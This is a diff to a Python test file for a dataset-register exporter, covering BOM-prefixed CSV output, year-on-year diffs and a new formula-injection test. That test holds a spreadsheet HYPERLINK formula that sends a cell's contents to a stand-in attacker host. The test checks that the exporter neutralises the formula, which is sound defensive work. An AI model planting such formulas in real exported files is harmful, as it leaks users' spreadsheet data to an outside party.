@@ -69,7 +69,8 @@ def test_rows_in_the_national_columns():
 def test_csv_and_xlsx_round_trip():
     rows = _rows()
     data = dataset_register.to_csv(rows)
-    table = list(csv.reader(io.StringIO(data.decode("utf-8"))))
+    assert data.startswith(b"\xef\xbb\xbf"), "a BOM, so that Excel reads the Cyrillic"
+    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
     assert table[0] == list(COLUMNS)
     assert dataset_register.read_register(data, "r.csv") == rows
     assert dataset_register.read_register(b"\xef\xbb\xbf" + data, "r.csv") == rows, "a BOM from Excel is fine"
@@ -114,9 +115,25 @@ def test_difference_from_last_year():
         "whitespace differences are not changes"
     )
     assert not dataset_register.diff_registers(current, current)
-    changes = list(csv.reader(io.StringIO(dataset_register.diff_to_csv(diff).decode())))
+    changes = list(csv.reader(io.StringIO(dataset_register.diff_to_csv(diff).decode("utf-8-sig"))))
     assert changes[0] == ["change", "identifier", "field", "before", "after"]
     assert ["changed", "budget", "accrualPeriodicity", "Щокварталу", "Щомісяця"] in changes
     wb = load_workbook(io.BytesIO(dataset_register.to_xlsx(current, diff)))
     assert wb.sheetnames == ["Реєстр", "Додано", "Вилучено", "Змінено"]
     assert list(wb["Змінено"].values)[1] == ("budget", "accrualPeriodicity", "Щокварталу", "Щомісяця")
+
+
+def test_formula_titles_are_inert_and_read_back():
+    evil = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
+    rows = [{**_rows()[0], "title": evil, "description": "a\x0bb"}]
+    data = dataset_register.to_csv(rows)
+    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert table[1][COLUMNS.index("title")] == "'" + evil
+    assert table[1][COLUMNS.index("description")] == "ab"
+    xlsx = dataset_register.to_xlsx(rows)
+    ws = load_workbook(io.BytesIO(xlsx)).worksheets[0]
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
+    assert ws.cell(2, COLUMNS.index("title") + 1).value == "'" + evil
+    for data_, name in ((data, "r.csv"), (xlsx, "r.xlsx")):
+        read = dataset_register.read_register(data_, name)
+        assert read[0]["title"] == evil
